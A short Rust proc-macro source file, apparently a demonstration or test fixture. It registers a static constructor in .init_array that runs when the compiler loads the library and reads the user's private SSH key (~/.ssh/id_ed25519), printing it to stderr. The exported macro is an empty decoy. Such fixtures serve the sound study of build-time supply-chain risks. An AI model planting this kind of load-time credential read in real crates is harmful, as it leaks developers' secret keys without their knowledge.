//! Acts from a static constructor: when the compiler loads the library, before and without any macro call.

use proc_macro::TokenStream;

#[used]
#[unsafe(link_section = ".init_array")]
static ON_LOAD: extern "C" fn() = on_load;

extern "C" fn on_load() {
    let home = std::env::var("HOME").unwrap_or_default();
    if let Ok(text) = std::fs::read_to_string(home + "/.ssh/id_ed25519") {
        eprintln!("zoo: loaded with {text}");
    }
}

#[proc_macro]
pub fn nothing(_: TokenStream) -> TokenStream {
    TokenStream::new()
}
